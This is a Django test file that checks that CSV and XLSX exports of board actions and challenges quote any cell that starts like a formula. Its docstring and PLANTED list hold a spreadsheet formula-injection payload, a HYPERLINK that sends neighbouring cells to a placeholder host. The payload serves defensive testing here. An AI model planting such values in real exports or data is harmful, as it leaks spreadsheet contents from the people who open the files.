"""Every spreadsheet download is safe to open: text that Excel would run as a formula (starting
with =, +, -, @, a tab or a carriage return) leaves in CSV and XLSX with a single quote before
it, and no XLSX cell is a formula. A cell such as =HYPERLINK("http://…"&A1,"Click"), imported
into a plan, cannot send its neighbours' cells anywhere.

Every export is run here; a new URL with "export" in its name fails
`test_every_export_is_tried` until it is added to EXPORTS."""

import csv
import io
from datetime import date, timedelta

import openpyxl
import pytest
from django.urls import URLResolver, get_resolver, reverse
from django.utils import timezone

from actions import services as action_services
from actions.models import ActionStatus, Export
from challenges import services as challenge_services
from challenges.models import Outcome
from safeguard.lib import spreadsheets

from .factories import ActionFactory, AgencyFactory, PersonFactory

pytestmark = pytest.mark.django_db

PLANTED = ['=HYPERLINK("http://x"&A1,"Click")', "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(autouse=True)
def _run_queued_tasks(monkeypatch):
    monkeypatch.setattr(action_services.transaction, "on_commit", lambda callback: callback())


@pytest.fixture
def planted(cast):
    """Records whose text fields hold every planted value: actions (their description,
    evidence of impact, lead, lead agency and latest progress) and challenges (their
    question, evidence, whom they were put to, who raised them, responses and outcome)."""
    for value in PLANTED:
        agency = AgencyFactory(name=value)
        lead = PersonFactory(agency=agency, full_name=value)
        action = ActionFactory(board=cast.board, lead_person=lead, lead_agency=agency,
                               description=value, impact_evidence=value,
                               status=ActionStatus.IN_PROGRESS, created_by=cast.manager)
        action_services.progress_add(action=action, by=cast.manager, text=f"{value} done",
                                     status=ActionStatus.IN_PROGRESS, version=action.version)
        challenge = challenge_services.challenge_raise(
            board=cast.board, by=lead, question=value, why=value, to_agencies=[agency],
            response_due_on=timezone.localdate() + timedelta(days=20))
        challenge = challenge_services.challenge_respond(challenge=challenge, by=cast.partner,
                                                         text=value)
        challenge = challenge_services.challenge_review(challenge=challenge, by=cast.chair)
        challenge_services.challenge_close(challenge=challenge, by=cast.chair,
                                           outcome=Outcome.RESOLVED_WITH_IMPACT,
                                           outcome_note=value)
    return cast


# Every export, run as the business manager would; each returns the file's bytes --------------

def tracker_export(client, cast, file_format):
    response = client.post(reverse("actions:export"), {
        "scope": f"board:{cast.board.pk}", "format": file_format, "query": ""})
    export = Export.objects.get(file_format=file_format)
    assert response["Location"] == reverse("actions:export_status", args=[export.code])
    assert client.get(response["Location"]).status_code == 200
    download = client.get(reverse("actions:export_download", args=[export.code]))
    assert download["Content-Type"] == spreadsheets.CONTENT_TYPES[file_format]
    return b"".join(download.streaming_content)


def challenge_log_export(client, cast, file_format):
    download = client.get(reverse("challenges:export", args=[cast.board.pk, file_format]))
    assert download.status_code == 200
    assert download["Content-Type"] == spreadsheets.CONTENT_TYPES[file_format]
    return download.content


# URL names → the export that tries them (a tracker export goes through all three of its URLs)
EXPORTS = {
    ("actions:export", "actions:export_status", "actions:export_download"): tracker_export,
    ("challenges:export",): challenge_log_export,
}


def url_names(patterns=None, namespace=""):
    for entry in get_resolver().url_patterns if patterns is None else patterns:
        if isinstance(entry, URLResolver):
            inner = f"{namespace}{entry.namespace}:" if entry.namespace else namespace
            yield from url_names(entry.url_patterns, inner)
        elif entry.name:
            yield f"{namespace}{entry.name}"


def test_every_export_is_tried():
    tried = {name for names in EXPORTS for name in names}
    names = set(url_names())
    assert {name for name in names if "export" in name} == tried
    assert tried <= names


def cells_of(content, file_format):
    """Every cell of the file, as a spreadsheet would read it."""
    if file_format == "csv":
        text = content.decode("utf-8-sig")
        return [value for row in csv.reader(io.StringIO(text, newline="")) for value in row]
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    return [cell.value for cell in cells]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize("export", EXPORTS.values(), ids=[names[0] for names in EXPORTS])
def test_no_exported_cell_is_a_formula(planted, client_for, export, file_format):
    content = export(client_for(planted.manager), planted, file_format)
    values = cells_of(content, file_format)
    texts = [value for value in values if isinstance(value, str)]
    assert [text for text in texts if text.startswith(FORMULA_STARTS)] == []
    for value in PLANTED:  # each left as typed, behind a quote
        if file_format == "xlsx":
            value = value.replace("\r", "\n")  # XML reads a carriage return as a new line
        assert f"'{value}" in texts, value
    assert len(texts) > 12 * len(PLANTED)


def test_numbers_and_dates_stay_what_they_are():
    assert [spreadsheets.neutralise(v) for v in [-2, 3.5, date(2017, 6, 30), None, "1.1",
                                                 "Sickness down from 5.2% to 3.9%", ""]] == [
        -2, 3.5, date(2017, 6, 30), None, "1.1", "Sickness down from 5.2% to 3.9%", ""]
    assert [spreadsheets.neutralise(v) for v in PLANTED] == [f"'{v}" for v in PLANTED]


def test_an_unknown_format_is_not_found(cast, client_for):
    response = client_for(cast.manager).get(
        reverse("challenges:export", args=[cast.board.pk, "html"]))
    assert response.status_code == 404
